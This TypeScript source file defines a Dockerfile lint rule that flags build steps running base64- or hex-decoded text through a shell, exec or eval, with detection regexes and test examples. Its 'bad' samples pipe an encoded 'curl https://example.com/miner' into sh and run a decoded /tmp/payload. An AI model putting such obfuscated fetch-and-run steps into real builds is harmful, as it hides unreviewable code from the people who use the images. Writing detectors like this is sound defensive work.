import { bad, dockerfile, good } from "../../kit/example.ts";
import { type Report, rule } from "../../kit/rule.ts";
import type { Command } from "../../model/build.ts";
import { shapeOf } from "../../model/download.ts";
import { type Program, program, readOptions } from "../../model/program.ts";
import { scriptRuns } from "../../model/script-input.ts";

export default rule({
  name: "obfuscated-command",
  on: "stage",
  title: "Command is hidden in an encoded text",
  severity: "warning",
  risk: "image",
  why: `A script that is decoded and run at once cannot be read in a review or found by a search. There is seldom a good reason for it in a build, where a file can be copied as it is;
malware in public images is mostly hidden this way.

Reported is what a shell or an interpreter runs out of \`base64 -d\`, \`xxd -r\`, \`openssl enc -d\` and the like, or of \`exec\` and \`eval\` on decoded text. What is decoded into a
file or for another program is data and left alone.`,
  refs: ["NIST SP 800-190 4.1.3", "CWE-506", "https://attack.mitre.org/techniques/T1027/"],

  *check(stage) {
    for (const { runner, name, makers } of scriptRuns(stage.commands)) {
      const decoder = makers.find(decodes);
      if (decoder)
        yield report(
          decoder,
          `What ${decoder.name} decodes is run by ${name === "." ? "the shell" : name} at once: nobody can read here what it does.`,
          runner,
        );
    }
    for (const command of stage.commands) {
      const run = program(command);
      if (!run || !interpreters.test(run.name)) continue;
      const word = run.args.find((a) => runsDecoded(shapeOf(a) ?? ""));
      if (word) yield { ...report(command, `What ${run.name} runs here is decoded first: nobody can read what it does.`, command), at: word.at };
    }
  },

  examples: [
    bad(dockerfile`
      FROM debian:12-slim
      RUN echo Y3VybCBodHRwczovL2V4YW1wbGUuY29tL21pbmVyCg== | «base64 -d» | sh
      RUN eval "$(echo Y3VybCBodHRwczovL2V4YW1wbGUuY29tL21pbmVyCg== | «base64 --decode»)" && bash <(«xxd -r -p /tmp/payload»)
    `),
    bad(dockerfile`
      FROM python:3.13-slim
      RUN python3 -c «"import base64; exec(base64.b64decode('cHJpbnQoMSkK'))"»
    `),

    good(dockerfile`
      FROM debian:12-slim
      ARG CERTIFICATE
      RUN echo "$CERTIFICATE" | base64 -d > /etc/ssl/certs/own.pem && base64 -d key.b64 | gpg --import && base64 script.sh | sh -c 'cat'
      RUN python3 -c "import base64; print(base64.b64decode('YQ=='))" && echo "base64 -d | sh" && echo a | base64 | sh
    `).because("Decoded data, a text, and what is encoded."),
  ],
});

const report = (at: Command, message: string, runner: Command): Report => ({ at: at.at, message, key: runner.name ?? "" });

const interpreters = /^(?:python[\d.]*|perl|ruby|node|nodejs|php[\d.]*)$/;
/** Does the script of an interpreter run what it decodes? */
const runsDecoded = (script: string): boolean =>
  /\b(?:exec|eval)\b/.test(script) && /\b(?:b64decode|decode64|base64_decode|decode_base64|atob|unhexlify|fromhex|gzinflate)\b/.test(script);

function decodes(command: Command): boolean {
  const run = program(command);
  if (!run) return false;
  const letters = /^base(?:16|32|64)$/.test(run.name) ? "dD" : run.name === "xxd" ? "r" : undefined;
  if (letters) return hasOption(run, (o) => o === "decode" || o === "revert" || (o.length === 1 && letters.includes(o)));
  if (run.name === "uudecode") return true;
  return run.name === "openssl" && run.args[0]?.is((a) => a === "enc" || a === "base64") === true && run.args.some((a) => a.is("-d"));
}

const hasOption = ({ args }: Program, test: (name: string) => boolean): boolean =>
  readOptions(args, { short: "w", long: new Set() }).options.some(({ name }) => test(name));
